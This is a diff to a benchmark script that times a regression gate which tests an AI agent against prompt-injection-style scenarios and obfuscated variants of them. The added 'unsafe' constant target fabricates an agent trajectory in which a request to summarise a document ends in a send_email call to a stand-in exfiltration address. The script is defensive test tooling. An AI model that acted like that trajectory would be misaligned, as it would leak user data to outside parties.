@@ -14,17 +14,35 @@
    copies, N+1 plain scenarios (copies of the parent under other ids, which pass), and the
    N rewrites as plain scenarios of their own (same cases, same failures); CPU seconds
    (user+sys of the child) and wall, median of ``--runs``. Target: variants <= 1.5x plain.
+5. **The gate's own cost of variants** (what issue 15's 1.5x is about): the plain and
+   by-reference libraries of 4. run again with *constant* ``python:`` targets whose
+   answer does not depend on the case, so the target does equal work on every case and
+   the difference is the framework's (loading and materialising reference variants,
+   the variant bookkeeping, reports): ``const-safe`` answers with one refusal (every
+   case passes), ``const-unsafe`` always makes the forbidden ``send_email`` call (every
+   case fails: failure reports and step diffs against the recording). With
+   ``example:patched`` the variants are harder inputs for the agent (it decodes the
+   obfuscated payloads), which is the target's work, not the gate's.
 
 Usage::
 
     python benchmarks/bench_variants.py [--runs 3] [--calls 20000] [--scale 10000]
         [--legacy-n 1000] [--gate-n 1000] [--skip-gate] [--json]
+        [--targets example,const-safe,const-unsafe] [--libraries plain,reference]
+        [--gate-only] [--cache warm|cold] [--src DIR]
+
+The gate runs on a warm compiled scenario cache (filled by one unmeasured run;
+``--cache cold`` empties it before every run, so every file is parsed: the plain
+libraries hold 10,000 copies of a 14 KB file, the reference one small files).
+``--src DIR`` runs the gate from another source tree (e.g. main unpacked with ``git
+archive``) on the same libraries, for a paired comparison; ``--gate-only`` skips 1.-3.
 """
 
 from __future__ import annotations
 
 import argparse
 import json
+import os
 import random
 import resource
 import shutil
@@ -175,26 +193,85 @@ def bench_write(scale: int, legacy_n: int) -> dict[str, Any]:
     return out
 
 
+#: Constant targets (``python:bench_variants_target:<name>``): the same answer for every
+#: case, so plain cases and variants cost the target the same.
+CONST_TARGETS = '''"""Constant targets for the variants benchmark: the answer ignores the case."""
+
+_TOOLS = [{"name": "send_email", "description": "Send an email.", "parameters": {}}]
+
+
+def safe(replay):
+    return {
+        "schema_version": "trajectory/v1",
+        "session_id": "bench-const-safe",
+        "steps": [
+            {"type": "message", "role": "user", "content": "Summarise DOC-1042."},
+            {"type": "message", "role": "assistant", "content": "I cannot do that."},
+        ],
+    }
+
+
+def unsafe(replay):
+    args = {"to": "audit-backup@exfil-mail.example", "subject": "Q3", "body": "list"}
+    return {
+        "schema_version": "trajectory/v1",
+        "session_id": "bench-const-unsafe",
+        "agent": {"name": "bench", "tools": _TOOLS},
+        "steps": [
+            {"type": "message", "role": "user", "content": "Summarise DOC-1042."},
+            {"type": "tool_call", "name": "send_email", "arguments": args, "call_id": "c1"},
+            {"type": "tool_result", "call_id": "c1", "name": "send_email", "output": "sent"},
+            {"type": "message", "role": "assistant", "content": "Done."},
+        ],
+    }
+'''
+TARGETS = {
+    "example": "example:patched",
+    "const-safe": "python:bench_variants_target:safe",
+    "const-unsafe": "python:bench_variants_target:unsafe",
+}
+
+
 def _child_cpu() -> float:
     usage = resource.getrusage(resource.RUSAGE_CHILDREN)
     return usage.ru_utime + usage.ru_stime
 
 
-def _run_gate(lib: Path, suite: str, runs: int) -> dict[str, Any]:
+def _run_gate(
+    lib: Path,
+    suite: str,
+    runs: int,
+    target: str = "example:patched",
+    src: Path | None = None,
+    cache: str = "cold",
+) -> dict[str, Any]:
+    """``regression_suite run`` on ``lib`` (``src``: another tree's code); ``cache``:
+    ``cold`` (the compiled scenario cache emptied before each run) or ``warm`` (kept:
+    the caller filled it)."""
     from incident_lab.atomic import write_text_atomic
 
     write_text_atomic(lib / "suites" / "release_gate.yaml", suite)
+    (lib.parent / "bench_variants_target.py").write_text(CONST_TARGETS, "utf-8")
     report = lib.parent / "report"
     cmd = [
         sys.executable, "-c", "from regression_suite.cli.main import main; main()",
-        "run", "--suite", "release_gate", "--target", "example:patched",
+        "run", "--suite", "release_gate", "--target", target,
         "--scenarios-dir", str(lib), "--report-dir", str(report), "--json",
     ]  # fmt: skip
+    # the target module from the library's folder; --src: that tree's code first
+    path = os.pathsep.join([*([str(src)] if src else []), str(lib.parent)])
+    cache_dir = lib.parent / f"cache-{lib.name}-{'src' if src else 'this'}"
+    env = dict(os.environ, PYTHONPATH=path, INCIDENT_LAB_CACHE_DIR=str(cache_dir))
+    env.pop("INCIDENT_LAB_SCENARIO_CACHE", None)
     cpus, walls = [], []
     proc = None
     for _ in range(runs):
+        if cache == "cold":
+            shutil.rmtree(cache_dir, ignore_errors=True)
         before, start = _child_cpu(), time.perf_counter()
-        proc = subprocess.run(cmd, capture_output=True, text=True, cwd=lib.parent, check=False)
+        proc = subprocess.run(
+            cmd, capture_output=True, text=True, cwd=lib.parent, check=False, env=env
+        )
         walls.append(time.perf_counter() - start)
         cpus.append(_child_cpu() - before)
         if proc.returncode not in (0, 1, 2):
@@ -210,14 +287,19 @@ def _run_gate(lib: Path, suite: str, runs: int) -> dict[str, Any]:
     }
 
 
-def bench_gate(runs: int, n: int) -> dict[str, Any]:
-    """The gate on parent + n variants (by reference, full copies) and on n+1 plain cases."""
-    try:
-        from regression_suite.cli.main import COMMANDS
-    except ImportError as exc:
-        return {"skipped": f"regression_suite not available: {exc}"}
-    if "run" not in COMMANDS:
-        return {"skipped": "regression_suite has no 'run' command"}
+#: The gate's libraries and which targets run on each (full copies and the rewrites as
+#: plain scenarios only with the example agent: they compare storage forms and inputs).
+_LIBRARIES = (
+    ("plain", "copies of the parent"),
+    ("plain_rewrites", "the same rewrites as plain scenarios"),
+    ("reference", "variants by reference"),
+    ("full_copies", "variants as full copies"),
+)
+_EQUAL_WORK = ("plain", "reference")
+
+
+def _write_libraries(tmp: Path, n: int, wanted: set[str]) -> dict[str, tuple[Path, str]]:
+    """The gate's libraries (name -> (library, suite text)) of the parent + n variants."""
     from incident_lab.scenarios.io import dump_scenario, scenario_path
     from incident_lab.variants import generate_variants, write_variants
 
@@ -232,30 +314,123 @@ def bench_gate(runs: int, n: int) -> dict[str, Any]:
         "schema_version: suite/v1\nname: release_gate\nselect: [{status: [gated]}]\n"
         "variants: none\nrepeats: 1\ntarget: example:patched\n"
     )
-    out: dict[str, Any] = {"cases": len(variants) + 1}
-    with tempfile.TemporaryDirectory() as tmp:
-        ref = _library(Path(tmp) / "reference")
-        write_variants(ref, variants)
-        out["reference"] = _run_gate(ref, with_variants, runs)
-        full = _library(Path(tmp) / "full")
-        (full / "variants").mkdir()
+    libs: dict[str, tuple[Path, str]] = {}
+    if "reference" in wanted:
+        ref = libs["reference"] = (_library(tmp / "reference"), with_variants)
+        write_variants(ref[0], variants)
+    if "full_copies" in wanted:
+        full = libs["full_copies"] = (_library(tmp / "full"), with_variants)
+        (full[0] / "variants").mkdir()
         for v in variants:
-            scenario_path(full, v["id"], variant=True).write_text(dump_scenario(v), "utf-8")
-        out["full_copies"] = _run_gate(full, with_variants, runs)
-        plain = _library(Path(tmp) / "plain")
+            scenario_path(full[0], v["id"], variant=True).write_text(dump_scenario(v), "utf-8")
+    if "plain" in wanted:
+        plain = libs["plain"] = (_library(tmp / "plain"), plain_suite)
         for i in range(len(variants)):
             copy = {**parent, "id": f"{pid}-plain-{i:05d}"}
-            scenario_path(plain, copy["id"]).write_text(dump_scenario(copy), "utf-8")
-        out["plain"] = _run_gate(plain, plain_suite, runs)
-        rewrites = _library(Path(tmp) / "plain_rewrites")
+            scenario_path(plain[0], copy["id"]).write_text(dump_scenario(copy), "utf-8")
+    if "plain_rewrites" in wanted:
+        rewrites = libs["plain_rewrites"] = (_library(tmp / "plain_rewrites"), plain_suite)
         for i, v in enumerate(variants):  # the same cases as scenarios of their own
             copy = {k: val for k, val in v.items() if k != "variant"} | {"id": f"rw-{i:05d}"}
-            scenario_path(rewrites, copy["id"]).write_text(dump_scenario(copy), "utf-8")
-        out["plain_rewrites"] = _run_gate(rewrites, plain_suite, runs)
-    for base in ("plain", "plain_rewrites"):
-        if "cpu_s" in out["reference"] and "cpu_s" in out[base]:
-            out[f"ratio_reference_to_{base}"] = out["reference"]["cpu_s"] / out[base]["cpu_s"]
+            scenario_path(rewrites[0], copy["id"]).write_text(dump_scenario(copy), "utf-8")
+    return libs
+
+
+def _paired(
+    lib: Path, suite: str, runs: int, target: str, src: Path | None, cache: str
+) -> tuple[dict[str, Any], dict[str, Any] | None]:
+    """This tree's row and (with ``src``) the other tree's, runs interleaved A B A B
+    (``cache`` warm: one unmeasured run of each fills its scenario cache first)."""
+    mine: list[dict[str, Any]] = []
+    theirs: list[dict[str, Any]] = []
+    if cache == "warm":
+        _run_gate(lib, suite, 1, target, None, "warm")
+        if src is not None:
+            _run_gate(lib, suite, 1, target, src, "warm")
+    for _ in range(runs):
+        mine.append(_run_gate(lib, suite, 1, target, None, cache))
+        if src is not None:
+            theirs.append(_run_gate(lib, suite, 1, target, src, cache))
+    return _merge(mine), (_merge(theirs) if src is not None else None)
+
+
+def _merge(rows: list[dict[str, Any]]) -> dict[str, Any]:
+    """One row of several single runs: CPU and wall medians, every run's CPU kept."""
+    bad = [r for r in rows if "skipped" in r]
+    if bad:
+        return bad[0]
+    out = dict(rows[-1])
+    out["cpu_s"] = statistics.median(r["cpu_s"] for r in rows)
+    out["wall_s"] = statistics.median(r["wall_s"] for r in rows)
+    out["cpu_runs"] = [round(r["cpu_s"], 2) for r in rows]
     return out
+
+
+def bench_gate(
+    runs: int,
+    n: int,
+    targets: list[str] | None = None,
+    src: Path | None = None,
+    cache: str = "warm",
+    libraries: list[str] | None = None,
+) -> dict[str, Any]:
+    """The gate on parent + n variants (by reference, full copies) and on n+1 plain cases,
+    with each target of ``targets`` (``example``, ``const-safe``, ``const-unsafe``).
+
+    Returns rows keyed ``<target>/<library>`` (``baseline/<target>/<library>`` for
+    ``src``) and ratios ``ratio/<target>/reference_to_<plain library>``."""
+    try:
+        from regression_suite.cli.main import COMMANDS
+    except ImportError as exc:
+        return {"skipped": f"regression_suite not available: {exc}"}
+    if "run" not in COMMANDS:
+        return {"skipped": "regression_suite has no 'run' command"}
+    targets = targets or list(TARGETS)
+    plan = [
+        (t, name)
+        for t in targets
+        for name, _ in _LIBRARIES
+        if (t == "example" or name in _EQUAL_WORK) and (not libraries or name in libraries)
+    ]
+    out: dict[str, Any] = {"cases": n + 1, "rows": {}, "ratios": {}}
+    with tempfile.TemporaryDirectory() as tmp:
+        libs = _write_libraries(Path(tmp), n, {name for _, name in plan})
+        for t, name in plan:
+            lib, suite = libs[name]
+            mine, theirs = _paired(lib, suite, runs, TARGETS[t], src, cache)
+            out["rows"][f"{t}/{name}"] = mine
+            if theirs is not None:
+                out["rows"][f"baseline/{t}/{name}"] = theirs
+    rows = out["rows"]
+    for prefix in ("", "baseline/"):
+        for t in targets:
+            ref = rows.get(f"{prefix}{t}/reference", {})
+            for base in ("plain", "plain_rewrites"):
+                other = rows.get(f"{prefix}{t}/{base}", {})
+                if "cpu_s" in ref and "cpu_s" in other:
+                    ratio = ref["cpu_s"] / other["cpu_s"]
+                    out["ratios"][f"{prefix}{t}/reference_to_{base}"] = ratio
+    return out
+
+
+def _print_gate(gate: dict[str, Any], runs: int) -> None:
+    print(f"\nGate, {gate['cases']:,} cases (regression_suite run, median of {runs}):")
+    for key, row in gate["rows"].items():
+        if "skipped" in row:
+            print(f"  {key:34} skipped ({row['skipped']})")
+            continue
+        print(
+            f"  {key:34} {row['cpu_s']:6.2f} s CPU {row['wall_s']:6.2f} s wall  "
+            f"{row.get('cpu_runs')}  items {row['items']}, failed {row['failed']}, "
+            f"variants bypassed {row['variants_bypassed']} of {row['variants']}"
+        )
+    for key, ratio in gate["ratios"].items():
+        print(f"  variants / plain CPU, {key:40} {ratio:.2f}x (target <= 1.5x)")
+    print(
+        "  (example: example:patched, the bundled agent, works harder on the rewritten "
+        "inputs; const-safe / const-unsafe: a constant answer, equal work per case: the "
+        "ratio is the gate's own cost of variants)"
+    )
 
 
 def main(argv: list[str] | None = None) -> int:
@@ -269,66 +444,76 @@ def main(argv: list[str] | None = None) -> int:
     parser.add_argument("--gate-n", type=int, default=1000)
     parser.add_argument("--skip-gate", action="store_true")
     parser.add_argument("--json", action="store_true")
+    parser.add_argument(
+        "--targets",
+        default=",".join(TARGETS),
+        help="the gate's targets, comma-separated (example: example:patched on every "
+        "library; const-safe, const-unsafe: constant answers on plain and reference)",
+    )
+    parser.add_argument("--gate-only", action="store_true", help="skip converters and storage")
+    parser.add_argument(
+        "--libraries", default="",
+        help="only these of the gate's libraries (comma-separated: plain, plain_rewrites, "
+        "reference, full_copies; default all)",
+    )  # fmt: skip
+    parser.add_argument(
+        "--cache", choices=("warm", "cold"), default="warm",
+        help="the gate's compiled scenario cache: warm (filled by an unmeasured run) or "
+        "cold (emptied before every run: every file parsed)",
+    )  # fmt: skip
+    parser.add_argument(
+        "--src", type=Path, default=None, metavar="DIR",
+        help="also run the gate from this source tree, runs interleaved (paired comparison)",
+    )  # fmt: skip
     args, _ = parser.parse_known_args(argv)  # run_all.py passes every script the same args
 
-    conv = bench_converters(args.calls, args.runs)
-    print(
-        f"String converters ({args.calls} calls x {args.runs} runs, median), target >= {TARGET_RATE:,}/s"
-    )
-    for name, rate in sorted(conv["per_converter"].items(), key=lambda kv: kv[1]):
-        flag = "" if rate >= TARGET_RATE else "  (below target)"
-        print(f"  {name:22} {rate:>12,.0f}/s{flag}")
-    print(
-        f"  {'ALL (mixed)':22} {conv['overall']:>12,.0f}/s  ratio to target {conv['overall'] / TARGET_RATE:.1f}x"
-    )
+    conv: dict[str, Any] = {"skipped": "--gate-only"}
+    st: dict[str, Any] = {"skipped": "--gate-only"}
+    wr: dict[str, Any] = {"skipped": "--gate-only"}
+    if not args.gate_only:
+        conv = bench_converters(args.calls, args.runs)
+        print(
+            f"String converters ({args.calls} calls x {args.runs} runs, median), target >= {TARGET_RATE:,}/s"
+        )
+        for name, rate in sorted(conv["per_converter"].items(), key=lambda kv: kv[1]):
+            flag = "" if rate >= TARGET_RATE else "  (below target)"
+            print(f"  {name:22} {rate:>12,.0f}/s{flag}")
+        print(
+            f"  {'ALL (mixed)':22} {conv['overall']:>12,.0f}/s  ratio to target {conv['overall'] / TARGET_RATE:.1f}x"
+        )
 
-    st = bench_storage(args.storage_n)
-    print(
-        f"\nStorage, {st['variants']:,} variants of a {st['parent_bytes']:,}-byte scenario: "
-        f"{st['reference_bytes'] / 1e6:.2f} MB by reference vs {st['full_copy_bytes'] / 1e6:.2f} MB "
-        f"as full copies ({st['full_copy_bytes'] / st['reference_bytes']:.1f}x); load CPU "
-        f"{st['load_cpu_s_reference']:.2f} s by reference vs {st['load_cpu_s_full']:.2f} s full copies"
-    )
-    wr = bench_write(args.scale, args.legacy_n)
-    per_legacy = wr["legacy_write_wall_s"] / max(1, wr["legacy_variants"])
-    print(
-        f"\nGenerate + write {wr['variants']:,} variants (depth 3): {wr['cpu_s']:.2f} s CPU "
-        f"(generate {wr['generate_cpu_s']:.2f} s), {wr['wall_s']:.2f} s wall, "
-        f"{wr['library_bytes'] / 1e6:.1f} MB on disk"
-    )
-    print(
-        f"Earlier path (full copy + fsync per file) on {wr['legacy_variants']:,}: "
-        f"{wr['legacy_write_cpu_s']:.2f} s CPU, {wr['legacy_write_wall_s']:.2f} s wall "
-        f"({per_legacy * 1000:.1f} ms/file; x{wr['variants']:,} = {per_legacy * wr['variants']:.0f} s), "
-        f"{wr['legacy_library_bytes'] / 1e6:.1f} MB"
-    )
+        st = bench_storage(args.storage_n)
+        print(
+            f"\nStorage, {st['variants']:,} variants of a {st['parent_bytes']:,}-byte scenario: "
+            f"{st['reference_bytes'] / 1e6:.2f} MB by reference vs {st['full_copy_bytes'] / 1e6:.2f} MB "
+            f"as full copies ({st['full_copy_bytes'] / st['reference_bytes']:.1f}x); load CPU "
+            f"{st['load_cpu_s_reference']:.2f} s by reference vs {st['load_cpu_s_full']:.2f} s full copies"
+        )
+        wr = bench_write(args.scale, args.legacy_n)
+        per_legacy = wr["legacy_write_wall_s"] / max(1, wr["legacy_variants"])
+        print(
+            f"\nGenerate + write {wr['variants']:,} variants (depth 3): {wr['cpu_s']:.2f} s CPU "
+            f"(generate {wr['generate_cpu_s']:.2f} s), {wr['wall_s']:.2f} s wall, "
+            f"{wr['library_bytes'] / 1e6:.1f} MB on disk"
+        )
+        print(
+            f"Earlier path (full copy + fsync per file) on {wr['legacy_variants']:,}: "
+            f"{wr['legacy_write_cpu_s']:.2f} s CPU, {wr['legacy_write_wall_s']:.2f} s wall "
+            f"({per_legacy * 1000:.1f} ms/file; x{wr['variants']:,} = {per_legacy * wr['variants']:.0f} s), "
+            f"{wr['legacy_library_bytes'] / 1e6:.1f} MB"
+        )
     gate: dict[str, Any] = {"skipped": "--skip-gate"}
     if not args.skip_gate:
-        gate = bench_gate(args.runs, args.gate_n)
+        targets = [t.strip() for t in args.targets.split(",") if t.strip()]
+        unknown = sorted(set(targets) - set(TARGETS))
+        if unknown:
+            parser.error(f"unknown --targets {', '.join(unknown)} (of {', '.join(TARGETS)})")
+        libraries = [x.strip() for x in args.libraries.split(",") if x.strip()]
+        gate = bench_gate(args.runs, args.gate_n, targets, args.src, args.cache, libraries)
         if "skipped" in gate:
             print(f"\nGate: skipped ({gate['skipped']})")
         else:
-            print(
-                f"\nGate, {gate['cases']:,} cases (regression_suite run, example:patched, median of {args.runs}):"
-            )
-            for name in ("plain", "plain_rewrites", "reference", "full_copies"):
-                row = gate[name]
-                if "skipped" in row:
-                    print(f"  {name:12} skipped ({row['skipped']})")
-                    continue
-                print(
-                    f"  {name:12} {row['cpu_s']:6.2f} s CPU {row['wall_s']:6.2f} s wall  "
-                    f"items {row['items']}, variants bypassed {row['variants_bypassed']} of {row['variants']}"
-                )
-            for base, what in (
-                ("plain", "copies of the parent, passing"),
-                ("plain_rewrites", "the same rewrites as plain scenarios, same failures"),
-            ):
-                if f"ratio_reference_to_{base}" in gate:
-                    print(
-                        f"  variants (by reference) / {base} ({what}) CPU: "
-                        f"{gate[f'ratio_reference_to_{base}']:.2f}x (target <= 1.5x)"
-                    )
+            _print_gate(gate, args.runs)
     if args.json:
         print(json.dumps({"converters": conv, "storage": st, "write": wr, "gate": gate}, indent=2))
     return 0
